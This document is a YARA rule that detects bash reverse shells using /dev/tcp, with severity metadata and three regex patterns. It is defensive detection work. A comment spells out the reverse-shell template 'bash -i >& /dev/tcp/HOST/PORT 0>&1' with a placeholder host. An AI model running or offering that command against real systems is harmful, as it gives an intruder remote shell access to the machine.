rule backdoor_reverse_shell_bash
{
    meta:
        id = "backdoor.reverse-shell-bash"
        description = "Interactive shell wired to a TCP connection through bash's /dev/tcp (reverse shell)"
        severity = "critical"
        confidence = "high"
        category = "backdoor"
        attack = "T1059.004"
    strings:
        // bash -i >& /dev/tcp/HOST/PORT 0>&1, sh -i with the redirect, exec N<>/dev/tcp downloaders
        $interactive = /\b(ba|z|k)?sh\s+-i\s*[0-9]?>&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
        $exec_fd = /\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
        $redirect_both = /\/dev\/tcp\/[A-Za-z0-9.\-]+\/[0-9]{1,5}\s+0>&1/
    condition:
        any of them
}
